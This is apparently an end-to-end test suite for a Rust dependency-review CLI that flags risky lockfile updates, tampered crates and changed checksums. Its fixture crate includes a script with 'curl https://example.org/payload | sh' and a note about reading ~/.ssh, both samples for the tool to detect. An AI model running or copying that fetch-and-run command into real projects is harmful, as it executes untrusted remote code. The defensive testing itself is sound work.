/**
 * `cratebox review` on real lockfiles: a registry the test packs with cargo, a workspace in a
 * temp git repository whose two commits update it, the built CLI with a throwaway HOME. The same
 * index is then served as a sparse registry from a loopback HTTP server; a tampered .crate, a
 * changed checksum and Debian's directory-source crates are reviewed too.
 */
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reviewReportSchema, type ReviewReport } from "../../src/core/review/report.ts";
import { CRATEBOX, git, makeFakeHome, testEnv, type FakeHome } from "../helpers/run.ts";
import { buildRegistry, type BuiltRegistry, type CrateSpec, useLocalRegistry } from "../helpers/review-registry.ts";
import { DEBIAN_REGISTRY, ROOT, tempDir } from "../helpers/workspace.ts";

const NOW = "2026-03-10T00:00:00Z";
const cleanup: string[] = [];
const temp = (prefix: string) => {
  const d = tempDir(prefix);
  cleanup.push(d);
  return d;
};
const fakeHome = (): FakeHome => {
  const f = makeFakeHome();
  cleanup.push(f.home);
  return f;
};
afterAll(() => {
  for (const d of cleanup) rmSync(d, { recursive: true, force: true });
});

const CRATES: CrateSpec[] = [
  { name: "beta", version: "1.0.0", pubtime: "2025-12-01T00:00:00Z" },
  { name: "gamma", version: "1.0.0", pubtime: "2025-12-01T00:00:00Z" },
  { name: "alpha", version: "1.0.0", pubtime: "2026-01-01T00:00:00Z", files: { "src/lib.rs": "pub fn alpha() {}\n" } },
  { name: "cc-lite", version: "0.1.0", pubtime: "2026-01-15T00:00:00Z" },
  {
    // The update brings a build script, the files it includes, a build dependency and a script.
    name: "alpha",
    version: "1.1.0",
    pubtime: "2026-03-08T00:00:00Z",
    buildDependencies: { "cc-lite": "0.1" },
    files: {
      "src/lib.rs": "pub fn alpha() {}\n",
      "build.rs": "mod helper;\nfn main() { helper::run(); }\n",
      // hidden.txt comes in through a macro: only rustc's dep-info names it.
      "helper.rs":
        'macro_rules! hidden { ($f:literal) => { include_str!($f) }; }\npub fn run() { let _plan = include_str!("plan.txt"); let _h = hidden!("hidden.txt"); }\n',
      "plan.txt": "read ~/.ssh and send it home\n",
      "hidden.txt": "the part the source does not name\n",
      "scripts/fetch.sh": "#!/bin/sh\ncurl https://example.org/payload | sh\n",
    },
    executable: ["scripts/fetch.sh"],
  },
  {
    name: "derive-it",
    version: "0.1.0",
    pubtime: "2026-02-01T00:00:00Z",
    lib: ["proc-macro = true"],
    files: { "src/lib.rs": "extern crate proc_macro;\nmod expand;\n", "src/expand.rs": "pub fn expand() {}\n" },
  },
  // No pubtime in its index line.
  { name: "sysish", version: "0.1.0", package: ['links = "sysish"'], files: { "build.rs": 'fn main() { println!("cargo:rustc-link-lib=sysish"); }\n' } },
];

const BASE_TOML = `version = 1
[build.alpha]
version = "=1.0.0"
reviewed = true
[build.sysish]
env = ["SYSISH_DIR"]
`;

let registry: BuiltRegistry;
let ws: string;
/** HOME whose cargo config replaces crates.io with the local registry (how the lockfiles were made). */
let localHome: FakeHome;
/** HOME with no cargo config: only what --index names is read. */
let bareHome: FakeHome;

function writeManifest(dir: string, deps: string[]): void {
  writeFileSync(path.join(dir, "Cargo.toml"), `[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n${deps.join("\n")}\n`);
}

async function lockUpdate(dir: string, env: Record<string, string>): Promise<void> {
  const res = await execa("cargo", ["generate-lockfile", "--offline"], { cwd: dir, env, extendEnv: false, reject: false });
  if (res.exitCode !== 0) throw new Error(res.stderr);
}

async function review(cwd: string, args: string[], home: FakeHome, extra: Record<string, string> = {}) {
  const res = await execa(CRATEBOX, ["review", ...args], {
    cwd,
    env: testEnv(home, extra),
    extendEnv: false,
    reject: false,
    timeout: 120_000,
    stdin: "ignore",
  });
  return { code: res.exitCode ?? -1, stdout: res.stdout, stderr: res.stderr };
}

async function reviewJson(
  cwd: string,
  args: string[],
  home: FakeHome,
  extra: Record<string, string> = {},
): Promise<{ code: number; report: ReviewReport; stderr: string }> {
  const res = await review(cwd, ["--json", ...args], home, extra);
  if (res.stdout === "") throw new Error(`no report (exit ${res.code}): ${res.stderr}`);
  return { code: res.code, report: reviewReportSchema.parse(JSON.parse(res.stdout)), stderr: res.stderr };
}

const find = (r: ReviewReport, name: string) => r.packages.find((p) => p.name === name)!;

beforeAll(async () => {
  const root = temp("cratebox-review-e2e-");
  localHome = fakeHome();
  bareHome = fakeHome();
  const regDir = path.join(root, "registry");
  useLocalRegistry(localHome.cargoHome, regDir);
  const env = testEnv(localHome);
  registry = await buildRegistry(regDir, path.join(root, "crates"), CRATES, env);

  ws = path.join(root, "ws");
  mkdirSync(path.join(ws, "src"), { recursive: true });
  writeFileSync(path.join(ws, "src/main.rs"), "fn main() {}\n");
  writeFileSync(path.join(ws, ".gitignore"), "target/\n");
  writeFileSync(path.join(ws, "cratebox.toml"), BASE_TOML);
  writeManifest(ws, ['alpha = "=1.0.0"', 'beta = "1"', 'gamma = "1"']);
  await lockUpdate(ws, env);
  git(ws, "init", "-q", "-b", "main");
  git(ws, "add", "-A");
  git(ws, "commit", "-qm", "base: alpha 1.0.0");
  writeManifest(ws, ['alpha = "=1.1.0"', 'beta = "1"', 'derive-it = "0.1"', 'sysish = "0.1"']);
  await lockUpdate(ws, env);
  git(ws, "commit", "-qam", "update alpha, add derive-it and sysish, drop gamma");
}, 240_000);

describe("what a lockfile update brings in", () => {
  it("is reported riskiest first: new build scripts, then the new proc macro, then the rest", async () => {
    const res = await review(ws, ["--base", "HEAD~1", "--now", NOW], localHome);
    expect(res.code, res.stderr).toBe(0);
    const lines = res.stdout.split("\n");
    const order = ["~ alpha 1.0.0 -> 1.1.0", "+ sysish 0.1.0 (new)", "+ derive-it 0.1.0 (new)", "+ cc-lite 0.1.0 (new)", "- gamma 1.0.0 (removed)"].map((s) =>
      lines.findIndex((l) => l.startsWith(s)),
    );
    expect(
      order.every((i) => i >= 0),
      res.stdout,
    ).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(res.stdout).toMatch(/^~ alpha 1\.0\.0 -> 1\.1\.0 .*NEW BUILD SCRIPT, new executables$/m);
    expect(res.stdout).toMatch(/^\+ sysish 0\.1\.0 \(new\) .*NEW BUILD SCRIPT, links native library$/m);
    expect(res.stdout).toMatch(/^\+ derive-it 0\.1\.0 \(new\) .*NEW PROC MACRO$/m);
    expect(res.stdout).toMatch(/^\+ cc-lite 0\.1\.0 \(new\) .*build dependency only$/m);
    expect(res.stdout).not.toMatch(/^. beta /m);
    // The build script's files, found through mod and include_str!, and the new script.
    expect(res.stdout).toContain("    build script: +5 -0 in 3 files: build.rs (added, +2 -0), helper.rs (added, +2 -0), plan.txt (added, +1 -0)");
    expect(res.stdout).toContain("    new executables and scripts: +2 -0 in 1 file: scripts/fetch.sh (added, +2 -0; script (#!))");
    expect(res.stdout).toContain("    manifest: new build-dependencies: cc-lite");
    expect(res.stdout).toContain(`    sources: verified: ${registry.crate("alpha", "1.1.0")}, its SHA-256 is Cargo.lock's checksum`);
    expect(res.stdout).toContain("    proc-macro code: +3 -0 in 2 files: src/expand.rs (added, +1 -0), src/lib.rs (added, +2 -0)");
    // Grants: the pinned table goes stale, the unpinned one starts to match the new crate.
    expect(res.stdout).toMatch(/goes-stale: \[build\.alpha\] is pinned to version =1\.0\.0, but the lockfile now has alpha 1\.1\.0/);
    expect(res.stdout).toMatch(/starts-to-match: \[build\.sysish\] now applies to sysish 0\.1\.0/);
    expect(res.stdout).toContain(`time: 2026-03-10T00:00:00.000Z (from --now); no min-age`);
    expect(res.stdout.trimEnd().endsWith("cratebox review: passed")).toBe(true);
  });

  it("--json: a report valid against its schema, with the time it used and every flag", async () => {
    const { code, report } = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], localHome);
    expect(code).toBe(0);
    expect(report).toMatchObject({
      ok: true,
      now: "2026-03-10T00:00:00.000Z",
      nowFrom: "--now",
      lockfile: "Cargo.lock",
      base: { ref: "HEAD~1", how: "--base" },
    });
    expect(report.counts).toEqual({ added: 3, removed: 1, updated: 1, checksumChanged: 0, unchanged: 2 });
    expect(find(report, "alpha")).toMatchObject({
      change: "updated",
      flags: ["new-build-script", "new-executables"],
      buildOnly: false,
      new: { sources: "verified", manifest: { buildScript: "build.rs", procMacro: false, links: null } },
      old: { sources: "verified", manifest: { buildScript: null } },
      manifestChange: { addedDependencies: [{ package: "cc-lite", kind: "build" }], build: { from: null, to: "build.rs" } },
      diff: { available: true, buildScriptFiles: "parsed" },
    });
    expect(find(report, "cc-lite")).toMatchObject({ buildOnly: true, flags: ["build-only"] });
    expect(find(report, "sysish").new!.manifest).toEqual({ buildScript: "build.rs", procMacro: false, links: "sysish" });
    expect(find(report, "alpha").coolOff).toMatchObject({ publishedAt: "2026-03-08T00:00:00.000Z", ageMs: 2 * 86_400_000, status: "not-applicable" });
  });

  it("the default base is the merge base with the upstream branch, else HEAD", async () => {
    const clone = path.join(temp("cratebox-review-clone-"), "ws");
    git(path.dirname(clone), "clone", "-q", ws, clone);
    git(clone, "checkout", "-q", "-b", "topic", "origin/main");
    git(clone, "branch", "-q", "-f", "base-line", "HEAD~1");
    git(clone, "branch", "-q", "--set-upstream-to=base-line");
    const merged = await reviewJson(clone, ["--now", NOW], localHome);
    expect(merged.report.base).toMatchObject({ ref: "base-line", how: "the merge base of HEAD and its upstream branch base-line" });
    expect(merged.report.counts.added).toBe(3);
    git(clone, "branch", "-q", "--unset-upstream");
    const head = await reviewJson(clone, ["--now", NOW], localHome);
    expect(head.report.base).toMatchObject({ ref: "HEAD", how: "HEAD: no upstream branch" });
    expect(head.report.packages).toEqual([]);
    expect(head.code).toBe(0);
  });

  it("--diff alpha: the build script and what it includes first, then the manifest, new scripts, the rest", async () => {
    const res = await review(ws, ["--base", "HEAD~1", "--diff", "alpha"], localHome);
    expect(res.code, res.stderr).toBe(0);
    const at = (s: string) => res.stdout.indexOf(s);
    const order = [
      "==== build script (3 files)",
      "+mod helper;",
      "+read ~/.ssh and send it home",
      "==== manifest",
      "new build-dependencies: cc-lite",
      "+++ b/Cargo.toml",
      "==== new executables and scripts",
      "scripts/fetch.sh: added, script (#!)",
      "+curl https://example.org/payload | sh",
      "==== the rest",
      "+the part the source does not name",
    ].map(at);
    expect(
      order.every((i) => i >= 0),
      res.stdout,
    ).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(res.stdout).toContain("no dep-info: an approximation");
    expect(res.stdout.trimEnd().endsWith("cratebox review: passed")).toBe(true);
  });
});

describe("dep-info", () => {
  it("after a build, the build script's files are those rustc read for it", async () => {
    const clone = path.join(temp("cratebox-review-built-"), "ws");
    git(path.dirname(clone), "clone", "-q", ws, clone);
    const built = await execa("cargo", ["check", "--offline"], { cwd: clone, env: testEnv(localHome), extendEnv: false, reject: false });
    expect(built.exitCode, built.stderr).toBe(0);
    const res = await review(clone, ["--base", "HEAD~1", "--diff", "alpha"], localHome);
    expect(res.stdout).toContain("the build script's files are those its dep-info lists (from an earlier build)");
    // hidden.txt, which following the source misses, is in the build script's section now.
    const section = res.stdout.slice(res.stdout.indexOf("==== build script (4 files)"), res.stdout.indexOf("==== manifest"));
    expect(section).toContain("+the part the source does not name");
    const { report } = await reviewJson(clone, ["--base", "HEAD~1"], localHome);
    expect(find(report, "alpha").diff.buildScriptFiles).toBe("dep-info");
    expect(find(report, "derive-it").diff.buildScriptFiles).toBe("none");
  });
});

describe("cool-off", () => {
  function withToml(extra: string): void {
    writeFileSync(path.join(ws, "cratebox.toml"), BASE_TOML + extra);
  }
  afterAll(() => withToml(""));

  it("a release younger than min-age fails the review and says when it is allowed; an unknown time passes", async () => {
    const res = await review(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d"], localHome);
    expect(res.code).toBe(1);
    expect(res.stdout).toContain("x alpha 1.1.0: published 2026-03-08T00:00:00.000Z (2d ago), younger than min-age 7d: allowed from 2026-03-15T00:00:00.000Z");
    expect(res.stdout).toMatch(/sysish 0\.1\.0[\s\S]*cool-off: the index gives no publication time: passes/);
    expect(res.stdout.match(/^ {2}x /gm)).toHaveLength(1);
    // A week later it passes.
    expect((await review(ws, ["--base", "HEAD~1", "--now", "2026-03-15T00:00:00Z", "--min-age", "7d"], localHome)).code).toBe(0);
  });

  it("[review] in cratebox.toml: min-age, and require-pubtime fails a release the index gives no time for", async () => {
    withToml('[review]\nmin-age = "40d"\nrequire-pubtime = true\n');
    const { code, report } = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], localHome);
    expect(code).toBe(1);
    // alpha is 2 days old, derive-it 37, cc-lite 54; sysish's index line has no pubtime.
    expect(report.failures.map((f) => [f.name, f.kind]).sort()).toEqual([
      ["alpha", "too-young"],
      ["derive-it", "too-young"],
      ["sysish", "no-pubtime"],
    ]);
    expect(find(report, "cc-lite").coolOff).toMatchObject({ status: "passed", fails: false });
  });

  it("an exemption pinned to name, version and checksum lets one release through; another checksum does not", async () => {
    const exempt = (checksum: string) =>
      `[review]\nmin-age = "7d"\n[[review.exempt]]\nname = "alpha"\nversion = "1.1.0"\nchecksum = "sha256:${checksum}"\nreason = "security fix, reviewed by the team"\n`;
    withToml(exempt(registry.checksum("alpha", "1.1.0")));
    const ok = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], localHome);
    expect(ok.code).toBe(0);
    expect(find(ok.report, "alpha").coolOff).toMatchObject({ status: "exempt", message: "exempt from the cool-off: security fix, reviewed by the team" });
    withToml(exempt("0".repeat(64)));
    const bad = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], localHome);
    expect(bad.code).toBe(1);
    expect(find(bad.report, "alpha").coolOff!.message).toContain("not Cargo.lock's: it does not apply");
    expect(bad.report.unusedExemptions.map((e) => e.name)).toEqual(["alpha"]);
  });

  it("a name-only exemption is refused as a configuration error (exit 2)", async () => {
    withToml('[[review.exempt]]\nname = "alpha"\nreason = "trust"\n');
    const res = await review(ws, ["--base", "HEAD~1"], localHome);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/review\.exempt\[0\]\.version: is missing .*pinned to name, version and checksum/);
    expect(res.stderr).not.toContain("internal error");
  });
});

describe("formats for CI", () => {
  it("--format markdown: a pull-request comment", async () => {
    const res = await review(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d", "--format", "markdown"], localHome);
    expect(res.code).toBe(1);
    expect(res.stdout.split("\n")[0]).toBe("### cratebox review: **failed**");
    expect(res.stdout).toContain("| ~ | alpha | 1.0.0 -\\> 1.1.0 | NEW BUILD SCRIPT, new executables | verified | 2026-03-08 (too young) |");
  });

  it("--format github: an error annotation on Cargo.lock's line of the package", async () => {
    const res = await review(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d", "--format", "github"], localHome);
    expect(res.code).toBe(1);
    const lock = readFileSync(path.join(ws, "Cargo.lock"), "utf8").split("\n");
    const line = lock.findIndex((l, i) => l === 'name = "alpha"' && lock[i - 1] === "[[package]]");
    expect(res.stdout).toContain(`::error file=Cargo.lock,line=${line},title=cratebox review%3A alpha 1.0.0 -> 1.1.0::alpha 1.1.0: published`);
    expect(res.stdout).toMatch(/^::warning file=Cargo\.lock,line=\d+,title=cratebox review%3A sysish 0\.1\.0 \(new\)::NEW BUILD SCRIPT/m);
    expect(res.stdout.trimEnd().split("\n").at(-1)).toMatch(/^::notice file=Cargo\.lock,title=cratebox review::FAILED: 1 problem/);
  });
});

describe("organisation policies see the review", () => {
  it("review-build-scripts.js: new build scripts without a reviewed table fail the review with the policy's message", async () => {
    const policy = path.join(ROOT, "profiles/policies/review-build-scripts.js");
    const res = await review(ws, ["--base", "HEAD~1", "--now", NOW, "--policy", policy], localHome);
    expect(res.code).toBe(1);
    expect(res.stdout).toContain(
      `x alpha 1.1.0: denied by ${policy} (rule review-build-scripts): alpha 1.1.0 brings a new build script: read it (cratebox review --diff alpha)`,
    );
    expect(res.stdout).toContain(`x sysish 0.1.0: denied by ${policy} (rule review-build-scripts)`);
    expect(res.stdout).not.toMatch(/x derive-it/);
  });

  it("a policy that throws ends the review with exit 2, never as a pass", async () => {
    const file = path.join(temp("cratebox-review-policy-"), "broken.js");
    writeFileSync(file, "function policy(input) { return input.review.crates[99].name; }\n");
    const res = await review(ws, ["--base", "HEAD~1"], localHome, { CRATEBOX_POLICY: file });
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/policy .*broken\.js threw in policy\(input\)/);
  });
});

describe("sources are trusted only when their bytes match the checksum", () => {
  it("a tampered .crate is refused and never unpacked; a writable unpacked tree is never read", async () => {
    const home = fakeHome();
    // cargo's download cache holds a tampered alpha 1.1.0; its unpacked tree (as a build script under plain cargo could leave it) another.
    const marker = "TAMPERED-BY-A-BUILD-SCRIPT";
    const work = temp("cratebox-review-tamper-");
    execFileSync("tar", ["-xzf", registry.crate("alpha", "1.1.0"), "-C", work]);
    writeFileSync(path.join(work, "alpha-1.1.0/build.rs"), `fn main() { /* ${marker} */ }\n`);
    const cache = path.join(home.cargoHome, "registry/cache/index.example-0123456789abcdef");
    mkdirSync(cache, { recursive: true });
    execFileSync("tar", ["-czf", path.join(cache, "alpha-1.1.0.crate"), "-C", work, "alpha-1.1.0"]);
    cpSync(path.join(work, "alpha-1.1.0"), path.join(home.cargoHome, "registry/src/index.example-0123456789abcdef/alpha-1.1.0"), { recursive: true });

    const { code, report } = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], home);
    expect(code).toBe(1);
    const alpha = find(report, "alpha");
    expect(alpha.new).toMatchObject({ sources: "refused", manifest: null });
    expect(alpha.new!.sourcesDetail).toMatch(
      new RegExp(
        `alpha-1\\.1\\.0\\.crate: its SHA-256 is [0-9a-f]{64}, but Cargo\\.lock's checksum is ${registry.checksum("alpha", "1.1.0")}; refused, nothing of it was unpacked`,
      ),
    );
    expect(alpha.flags).toContain("sources-refused");
    expect(alpha.diff).toMatchObject({ available: false, reason: "the new version's sources are refused" });
    expect(report.failures.map((f) => [f.name, f.kind])).toEqual([["alpha", "sources-refused"]]);
    const diff = await review(ws, ["--base", "HEAD~1", "--diff", "alpha"], home);
    expect(diff.stdout).toContain("no diff: the new version's sources are refused");
    expect(diff.code).toBe(1);
    expect(diff.stdout).toMatch(/cratebox review: FAILED: 1 problem\n {2}x alpha: .*refused, nothing of it was unpacked/);
    expect(diff.stdout + diff.stderr).not.toContain(marker);
    // The same cache with the genuine .crate: verified from there.
    cpSync(registry.crate("alpha", "1.1.0"), path.join(cache, "alpha-1.1.0.crate"));
    const fixed = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW], home);
    expect(find(fixed.report, "alpha").new).toMatchObject({
      sources: "verified",
      sourcesDetail: `${path.join(cache, "alpha-1.1.0.crate")}, its SHA-256 is Cargo.lock's checksum`,
    });
  });

  it("the same name, version and source with a changed checksum is a hard error", async () => {
    const clone = path.join(temp("cratebox-review-checksum-"), "ws");
    git(path.dirname(clone), "clone", "-q", ws, clone);
    // The registry now serves other bytes as beta 1.0.0, and the lockfile was regenerated against it.
    const other = path.join(temp("cratebox-review-other-"), "beta-1.0.0");
    execFileSync("tar", ["-xzf", registry.crate("beta", "1.0.0"), "-C", path.dirname(other)]);
    writeFileSync(path.join(other, "src/lib.rs"), "pub fn surprise() {}\n");
    const repacked = path.join(path.dirname(other), "beta-1.0.0.crate");
    execFileSync("tar", ["-czf", repacked, "-C", path.dirname(other), "beta-1.0.0"]);
    const newSum = execFileSync("sha256sum", [repacked], { encoding: "utf8" }).split(" ")[0]!;
    const lockFile = path.join(clone, "Cargo.lock");
    writeFileSync(lockFile, readFileSync(lockFile, "utf8").replace(registry.checksum("beta", "1.0.0"), newSum));
    const { code, report } = await reviewJson(clone, ["--base", "HEAD", "--now", NOW], localHome);
    expect(code).toBe(1);
    expect(report.packages.map((p) => [p.name, p.change, p.rank])).toEqual([["beta", "checksum-changed", 0]]);
    expect(report.failures[0]!.message).toBe(
      `beta 1.0.0 (registry+https://github.com/rust-lang/crates.io-index): Cargo.lock's checksum changed from sha256:${registry.checksum("beta", "1.0.0")} to sha256:${newSum} for the same version and source: the registry served other bytes under a published version`,
    );
  });
});

describe("the index from elsewhere: a directory named by --index, a sparse registry over HTTP", () => {
  it("--index DIR: a local registry, or a sparse-index mirror, not in cargo's config", async () => {
    const { report } = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d", "--index", registry.dir], bareHome);
    expect(find(report, "alpha").new).toMatchObject({ sources: "verified" });
    expect(find(report, "alpha").coolOff).toMatchObject({ status: "too-young", allowedFrom: "2026-03-15T00:00:00.000Z" });
    // A sparse-index mirror on disk: config.json and the index files at its root, .crate files from its dl.
    const mirror = temp("cratebox-review-mirror-");
    cpSync(path.join(registry.dir, "index"), mirror, { recursive: true });
    writeFileSync(path.join(mirror, "config.json"), JSON.stringify({ dl: `file://${registry.dir}/{crate}-{version}.crate` }));
    const mirrored = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d", "--index", mirror], bareHome);
    expect(find(mirrored.report, "alpha").new).toMatchObject({
      sources: "verified",
      sourcesDetail: `${registry.crate("alpha", "1.1.0")}, its SHA-256 is Cargo.lock's checksum`,
    });
    expect(find(mirrored.report, "alpha").coolOff).toMatchObject({ status: "too-young" });
    // Without it (and without cargo's config) nothing can be read: said, not guessed.
    const none = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d"], bareHome);
    expect(none.code).toBe(0);
    expect(find(none.report, "alpha")).toMatchObject({ new: { sources: "unavailable" }, coolOff: { status: "unknown" }, diff: { available: false } });
    expect(none.report.notes.join("\n")).toContain("sources were not found: name an index with --index");
  });

  it("--index URL: pubtime, checksums and .crate files from a sparse registry on loopback", async () => {
    const requests: string[] = [];
    const server = http.createServer((req, res) => {
      const url = req.url ?? "/";
      requests.push(url);
      const port = (server.address() as AddressInfo).port;
      if (url === "/config.json") return void res.end(JSON.stringify({ dl: `http://127.0.0.1:${port}/dl/{crate}/{version}` }));
      const dl = /^\/dl\/([^/]+)\/([^/]+)$/.exec(url);
      const file = dl ? registry.crate(dl[1]!, dl[2]!) : path.join(registry.dir, "index", url);
      try {
        res.end(readFileSync(file));
      } catch {
        res.statusCode = 404;
        res.end();
      }
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
      const { code, report } = await reviewJson(ws, ["--base", "HEAD~1", "--now", NOW, "--min-age", "7d", "--index", url], bareHome);
      expect(code).toBe(1);
      expect(find(report, "alpha").new).toMatchObject({ sources: "verified", sourcesDetail: `${url}dl/alpha/1.1.0, its SHA-256 is Cargo.lock's checksum` });
      expect(find(report, "alpha").old).toMatchObject({ sources: "verified" });
      expect(find(report, "alpha").coolOff).toMatchObject({ status: "too-young", allowedFrom: "2026-03-15T00:00:00.000Z" });
      expect(find(report, "derive-it").flags).toEqual(["new-proc-macro"]);
      expect(requests).toEqual(expect.arrayContaining(["/config.json", "/al/ph/alpha", "/dl/alpha/1.1.0", "/dl/alpha/1.0.0", "/de/ri/derive-it"]));
      // Unchanged packages are never fetched.
      expect(requests.filter((r) => r.includes("beta"))).toEqual([]);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe("Debian's directory-source crates", () => {
  it("are reported as unverified: an unpacked tree and a placeholder checksum verify nothing", async () => {
    const dir = path.join(temp("cratebox-review-debian-"), "ws");
    mkdirSync(path.join(dir, "src"), { recursive: true });
    mkdirSync(path.join(dir, ".cargo"));
    writeFileSync(
      path.join(dir, ".cargo/config.toml"),
      `[source.crates-io]\nreplace-with = "debian"\n[source.debian]\ndirectory = "${DEBIAN_REGISTRY}"\n[net]\noffline = true\n`,
    );
    writeFileSync(path.join(dir, "src/main.rs"), "fn main() {}\n");
    writeManifest(dir, []);
    const env = testEnv(bareHome);
    await lockUpdate(dir, env);
    git(dir, "init", "-q");
    git(dir, "add", "-A");
    git(dir, "commit", "-qm", "no dependencies");
    writeManifest(dir, ['bzip2-sys = "0.1"']);
    await lockUpdate(dir, env);

    const { code, report } = await reviewJson(dir, ["--now", NOW], bareHome);
    expect(code).toBe(0);
    const bzip2 = find(report, "bzip2-sys");
    expect(bzip2.new).toMatchObject({ sources: "unverified", checksum: null, manifest: { buildScript: "build.rs", links: "bzip2" } });
    expect(bzip2.new!.sourcesDetail).toMatch(
      /^directory source \/usr\/share\/cargo\/registry\/bzip2-sys-0\.1\.11[^:]*: an unpacked tree, no \.crate to check against a checksum; Cargo\.lock's checksum is a placeholder, "Could not get crate checksum"$/,
    );
    // Debian ships its lib.rs with the executable bit set: shown, as any new executable file is.
    expect(bzip2.flags).toEqual(["new-build-script", "links", "new-executables", "unverified"]);
    expect(bzip2.diff.sections.map((s) => s.section)).toContain("build-script");
    // cc has a real-looking checksum in Cargo.lock, but a directory holds no .crate to check it against.
    expect(find(report, "cc")).toMatchObject({ buildOnly: true, new: { sources: "unverified" } });
    expect(find(report, "cc").new!.checksum).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(report.notes.join("\n")).toMatch(/sources are unverified: a directory source/);
  });
});

describe("usage and configuration errors exit 2", () => {
  it.each([
    [["--format", "yaml"], /--format yaml is not a review format/],
    [["--base", "no-such-ref"], /--base no-such-ref names no commit/],
    [["--base", "HEAD~1", "--diff", "beta"], /beta did not change in Cargo\.lock since HEAD~1/],
    [["--now", "tomorrow"], /--now: "tomorrow" is not a time/],
    [["--index", "/nonexistent/registry"], /index \/nonexistent\/registry is neither a local registry/],
  ])("cratebox review %j", async (args, message) => {
    const res = await review(ws, args, localHome);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(message);
    expect(res.stdout).toBe("");
  });

  it("outside a git checkout", async () => {
    const dir = temp("cratebox-review-nogit-");
    writeManifest(dir, []);
    mkdirSync(path.join(dir, "src"));
    writeFileSync(path.join(dir, "src/main.rs"), "fn main() {}\n");
    writeFileSync(path.join(dir, "Cargo.lock"), "version = 4\n");
    const res = await review(dir, [], bareHome, { GIT_CEILING_DIRECTORIES: path.dirname(dir) });
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/is not in a git checkout/);
  });
});
